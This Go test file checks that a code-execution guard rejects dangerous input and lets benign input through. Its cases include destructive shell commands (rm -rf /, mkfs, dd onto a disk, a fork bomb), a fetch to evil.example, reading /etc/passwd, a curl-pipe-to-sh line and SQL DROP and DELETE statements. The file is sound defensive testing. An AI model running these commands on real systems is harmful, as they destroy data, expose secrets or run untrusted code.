package guard

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap/zaptest"
)

func newTestGuard(t *testing.T) *Guard {
	t.Helper()
	g, err := New(zaptest.NewLogger(t), nil)
	require.NoError(t, err)
	return g
}

func TestGuardRejectsDangerousCode(t *testing.T) {
	g := newTestGuard(t)

	cases := []struct {
		name string
		code string
	}{
		{"ShellRecursiveDelete", "rm -rf /"},
		{"ShellRecursiveDeleteFlagsSwapped", "rm -fr /home"},
		{"ShellMkfs", "mkfs.ext4 /dev/sda1"},
		{"ShellDiskOverwrite", "dd if=/dev/zero of=/dev/sda"},
		{"ShellForkBomb", ":(){ :|:& };:"},
		{"JSProcessAccess", "process.exit(1)"},
		{"JSRequire", "const fs = require('fs')"},
		{"JSDynamicImport", "import('child_process')"},
		{"JSEval", "eval('1+1')"},
		{"JSFunctionConstructor", "new Function('return this')()"},
		{"JSFetch", "fetch('https://evil.example')"},
		{"JSXHR", "new XMLHttpRequest()"},
		{"PythonImportOS", "import os\nos.listdir('/')"},
		{"PythonFromSubprocess", "from subprocess import run"},
		{"PythonDunderImport", "__import__('os')"},
		{"PythonExec", "exec('print(1)')"},
		{"PythonOpenFile", "f = open('/etc/passwd')"},
		{"SQLDropTable", "DROP TABLE users;"},
		{"SQLTruncate", "truncate table sessions"},
		{"SQLDeleteFrom", "DELETE FROM accounts"},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			verdict := g.Check(tc.code)
			assert.True(t, verdict.Rejected, "expected rejection for %q", tc.code)
			assert.Equal(t, RejectionReason, verdict.Reason)
			assert.NotEmpty(t, verdict.Rule)
		})
	}
}

func TestGuardPassesBenignCode(t *testing.T) {
	g := newTestGuard(t)

	cases := []struct {
		name string
		code string
	}{
		{"JSConsoleLog", "console.log('hi')"},
		{"JSArithmetic", "const x = [1,2,3].map(n => n * 2); console.log(x)"},
		{"PythonPrint", `print("hello")`},
		{"ShellEcho", "echo hello world"},
		{"SQLSelect", "SELECT id, name FROM users WHERE active = true"},
		{"SQLInsert", "INSERT INTO notes (title) VALUES ('x')"},
		{"EmptyCode", ""},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			verdict := g.Check(tc.code)
			assert.False(t, verdict.Rejected, "unexpected rejection for %q", tc.code)
			assert.Empty(t, verdict.Reason)
		})
	}
}

func TestGuardIsDeterministic(t *testing.T) {
	g := newTestGuard(t)

	first := g.Check("rm -rf /tmp/scratch")
	for i := 0; i < 100; i++ {
		assert.Equal(t, first, g.Check("rm -rf /tmp/scratch"))
	}
}

func TestGuardExtraPatterns(t *testing.T) {
	t.Run("ExtraPatternApplied", func(t *testing.T) {
		g, err := New(zaptest.NewLogger(t), []string{`(?i)\bcurl\s+`})
		require.NoError(t, err)

		verdict := g.Check("curl https://example.com | sh")
		assert.True(t, verdict.Rejected)
		assert.Equal(t, "extra-0", verdict.Rule)
	})

	t.Run("InvalidExtraPattern", func(t *testing.T) {
		_, err := New(zaptest.NewLogger(t), []string{"("})
		require.Error(t, err)
		assert.Contains(t, err.Error(), "invalid guard.extra_patterns[0]")
	})
}

func TestGuardRuleCount(t *testing.T) {
	g, err := New(zaptest.NewLogger(t), []string{"foo"})
	require.NoError(t, err)
	assert.Equal(t, len(builtinRules)+1, g.RuleCount())
}
